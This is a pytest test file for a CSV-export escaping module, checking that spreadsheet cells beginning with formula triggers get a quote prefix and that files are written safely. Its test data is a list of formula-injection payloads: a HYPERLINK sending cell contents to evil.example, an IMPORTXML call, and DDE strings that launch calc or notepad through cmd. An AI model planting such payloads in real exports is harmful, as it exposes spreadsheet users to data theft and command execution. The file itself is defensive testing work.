"""Exports and quarantine files must never hand a spreadsheet a formula to run."""

from __future__ import annotations

import csv
import datetime as dt
import stat
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dutystation.reports.spreadsheet_safety import (
    TRIGGERS,
    escape_cell,
    escape_cell_or_number,
    escape_column,
    is_formula_like,
    write_safe_csv,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://x/?",A2),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\x00=1",
    "   =1+2",
    "＝1+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_prefixed_with_a_quote(payload: str) -> None:
    assert escape_cell(payload) == "'" + payload
    assert escape_cell_or_number(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Smith", "O'Brien", "", " ", "a=b", "DC0001-L1", "100%"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert escape_cell(text) == text


@pytest.mark.parametrize("number", ["-12.5", "+3", "-0", "1e5", "-.5", "-1E-3", "42"])
def test_genuine_numbers_stay_numbers(number: str) -> None:
    assert escape_cell_or_number(number) == number
    assert escape_cell(number) == ("'" + number if number[0] in "+-" else number)
    assert escape_cell_or_number(-12.5) == -12.5


def test_arrow_columns_are_escaped_like_single_cells() -> None:
    values = [*PAYLOADS, "Smith", "-12.5", None, "", "-", "+"]
    column = pa.array(values, pa.string())
    escaped = escape_column(column).to_pylist()
    assert escaped == [None if v is None else escape_cell_or_number(v) for v in values]
    chunked = escape_column(pa.chunked_array([column[:3], column[3:]]))
    assert chunked.to_pylist() == escaped
    assert escape_column(pa.array([1, -2])).to_pylist() == ["1", "-2"]


@given(st.text(max_size=30))
def test_column_and_cell_rules_agree(text: str) -> None:
    assert escape_column(pa.array([text])).to_pylist() == [escape_cell_or_number(text)]
    escaped = escape_cell(text)
    assert not is_formula_like(escaped) or escaped[0] == "'"
    assert escaped.removeprefix("'") == text or escaped == text


def test_triggers_are_the_owasp_set_and_full_width_forms() -> None:
    assert set("=+-@\t\r\x00") <= TRIGGERS


def test_safe_csv_round_trips_and_runs_nothing(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows = [[payload, -12.5, "-12.5", None, dt.date(2026, 1, 5), True] for payload in PAYLOADS]
    header = ["=name", "hours", "text", "empty", "date", "flag"]
    assert write_safe_csv(path, header, rows) == len(PAYLOADS)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with path.open(encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh))
    assert back[0][0] == "'=name"
    for original, read in zip(rows, back[1:], strict=True):
        assert not is_formula_like(read[0]) or read[0].startswith("'")
        assert read[0].removeprefix("'") == original[0]
        assert read[1:] == ["-12.5", "-12.5", "", "2026-01-05", "true"]
    assert list(tmp_path.iterdir()) == [path]  # no temp file left behind


def test_safe_csv_leaves_no_partial_file_when_rows_fail(tmp_path: Path) -> None:
    def rows() -> object:
        yield ["ok"]
        raise RuntimeError("source failed")

    with pytest.raises(RuntimeError):
        write_safe_csv(tmp_path / "out.csv", ["a"], rows())  # type: ignore[arg-type]
    assert list(tmp_path.iterdir()) == []
